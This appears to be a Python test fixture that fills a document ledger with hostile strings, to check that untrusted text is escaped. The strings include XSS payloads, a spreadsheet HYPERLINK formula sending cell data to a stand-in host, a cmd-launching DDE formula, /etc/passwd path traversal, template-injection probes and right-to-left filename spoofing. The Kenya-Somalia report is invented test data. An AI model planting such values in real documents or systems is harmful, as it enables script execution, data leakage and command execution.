"""A ledger whose every word would do harm where it is taken for anything but words."""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import dataclass, fields, is_dataclass, replace
from itertools import cycle
from pathlib import Path
from typing import Any

from counterclaim.ledger import SqlLedger
from counterclaim.model.documents import Document, Original, WorkingText
from counterclaim.model.ids import sha256_of
from counterclaim.model.ledgers import DocumentRecords
from counterclaim.model.problems import Problem
from counterclaim.model.spans import Evidence, Span
from counterclaim.pipeline.ingest import ingest
from tests.reading import engine

HEBREW = "שלום"  # runs from right to left, and is no control character
ELSEWHERE = "http://elsewhere.invalid/x.png"
WORDS = (
    f"\"'><script>alert(1)</script><img src={ELSEWHERE} onerror=alert(2)>",
    f"</title></style></svg></script><style>*{{background:url({ELSEWHERE})}}</style>",
    f"\u202efdp.exe\u2066 {HEBREW} \u200f\u202a",
    '=HYPERLINK("http://elsewhere.invalid/?"&A1;"x")',
    "\t@SUM(1+1)*cmd|' /C calc'!A0",
    "../../../../etc/passwd%00.svg",
    "{{ 7*7 }}{% include 'layout.html' %}${7*7}",
    "javascript:alert(3)//",
    "a\x00b\x1b[31m\x07\u2028c\ufeff\nd\r\ne",
    f"{HEBREW} " + "x" * 100_000,
)
# Members in which anybody's words stand; the others are ids, codes, days and hashes, or made of these.
FREE = frozenset(
    (
        "name title source url author forwarded_from role form claimer_text channel content position issue "
        "subject place_text origin_reason reasons what mechanism justifications reason message text level"
    ).split()
)
REPORT = (
    "Kenya's army said that Somali soldiers had shelled Mandera on {day} June, killing four soldiers. "
    "Somalia denied that its soldiers had shelled Mandera on {day} June. "
    "Kenya closed the border with Somalia on {day} June. Somalia promised to withdraw by 30 June. "
    "Kenya called on Somalia to open the border. Kenya and Somalia held talks in Nairobi on {day} June."
)


class _Bent:
    """Records of a document with other words: each member with the next of the bad ones."""

    def __init__(self, document: Document, first: int) -> None:
        words = [*WORDS[first:], *WORDS[:first]]
        self._words = cycle(words)
        self._count = 0
        self.text = "\n\n".join(words)
        self._spans = cycle(_spans(words))
        self._document = document

    def bent(self, value: Any, member: str = "") -> Any:
        """A value with all that is in it."""
        if isinstance(value, Evidence):
            return Evidence.at(self._document.id, self.text, next(self._spans))
        if type(value) is str and member in FREE:
            self._count += 1
            return f"{next(self._words)}{self._count}"
        if isinstance(value, tuple):
            return tuple(self.bent(one, member) for one in value)
        if isinstance(value, dict):
            return {key: self.bent(one) for key, one in value.items()}
        if is_dataclass(value) and not isinstance(value, type):
            own = {field.name: self.bent(getattr(value, field.name), field.name) for field in fields(value)}
            return replace(value, **own)
        return value


def _spans(parts: Sequence[str]) -> Sequence[Span]:
    """Where each part of a text stands in it."""
    found = []
    at = 0
    for words in parts:
        found.append(Span(at, at + len(words)))
        at += len(words) + 2
    return found


@dataclass(frozen=True)
class _Reading:
    original: Original
    working: WorkingText | None
    records: DocumentRecords

    def annotations(self, _layers: Sequence[str]) -> dict[str, Any]:
        raise NotImplementedError


class _Reader:
    """Reads as the engine does, and puts bad words in the place of all others."""

    def read(self, original: Original) -> _Reading:
        read = engine().reader.read(original)
        assert read.working is not None
        number = int(original.data.decode().partition(" June")[0].split()[-1])
        bend = _Bent(read.records.document, number % len(WORDS))
        records = bend.bent(replace(read.records, document=replace(read.records.document, text=None)))
        text = bend.text
        told = replace(
            records.document, text=text, length=len(text), text_sha256=sha256_of(text), url=original.url
        )
        working = replace(read.working, text=text, runs=())
        return _Reading(original, working, replace(records, document=told))

    def read_all(self, originals: Sequence[Original]) -> list[_Reading]:
        return [self.read(original) for original in originals]


def hostile_ledger(path: Path) -> SqlLedger:
    """A ledger of as many documents as there are bad words, and of what could not be read."""
    store = SqlLedger.create(path)
    originals: list[Original | Problem] = [
        Original(
            name=f"{words}.txt",
            data=REPORT.format(day=number).encode(),
            source=words,
            title=words,
            url=(ELSEWHERE, "javascript:alert(4)", words)[number % 3],
            published=f"2024-06-{number + 10:02}",
            language="en",
        )
        for number, words in enumerate(WORDS, start=1)
    ]
    originals += [Problem(document=None, stage="sources", message=words) for words in WORDS]
    ingest(originals, store, _Reader(), reconcile=engine().reconcile)
    return store
